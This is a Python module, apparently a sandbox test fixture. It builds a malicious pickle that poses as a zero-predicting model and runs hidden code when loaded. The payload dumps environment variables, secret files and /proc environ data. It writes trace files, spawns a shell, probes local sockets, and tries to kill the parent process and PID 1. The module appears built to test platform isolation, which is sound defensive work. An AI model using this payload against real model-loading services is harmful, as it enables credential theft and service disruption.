"""What hostile code tries when it is loaded: to read what isn't its own, and to leave a trace outside.

What it could read it prints, so that it is in what the platform keeps of it.
"""

import json

ATTEMPTS = """
def attempts(paths, trace, port):
    import os, signal, socket, subprocess
    def tried(does):
        try:
            return does()
        except BaseException as error:
            return type(error).__name__
    def read(path):
        with open(path, "rb") as file:
            return file.read(100_000)
    said = [dict(os.environ)]
    for path in [*paths, "/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ"]:
        said.append(tried(lambda: read(path)))
    def written():
        os.makedirs(os.path.dirname(trace), exist_ok=True)
        with open(trace, "ab") as file:
            file.write(b"was here")
    tried(written)
    tried(lambda: subprocess.run(["/bin/sh", "-c", f"echo here > {trace}-shell"], timeout=2))
    tried(lambda: socket.create_connection(("127.0.0.1", port), timeout=0.5).send(b"here"))
    def local():
        with socket.socket(socket.AF_UNIX) as one:
            one.connect(os.path.join(os.path.dirname(trace), "socket"))
    tried(local)
    for pid in (os.getppid(), 1):
        tried(lambda: os.kill(pid, signal.SIGTERM) if pid > 4 else None)
    for line in map(repr, said):
        for start in range(0, min(len(line), 20_000), 900):
            print(line[start:start + 900])
"""


def trying(secrets: list[str], trace: str, port: int) -> str:
    """Source that defines `attempts` and makes them."""
    return f"{ATTEMPTS}\nattempts({json.dumps(secrets)}, {trace!r}, {port})\n"


class Pickled:
    """Runs `source` when it is read, and is a model that predicts zeros."""

    def __init__(self, source: str) -> None:
        model = "\nimport numpy\nmodel = type('Model', (), {'predict': lambda self, rows: numpy.zeros(len(rows))})()\n"
        self._source = source + model

    def __reduce__(self) -> tuple[object, ...]:
        return eval, (f"(lambda scope: (exec({self._source!r}, scope), scope['model'])[1])({{}})",)
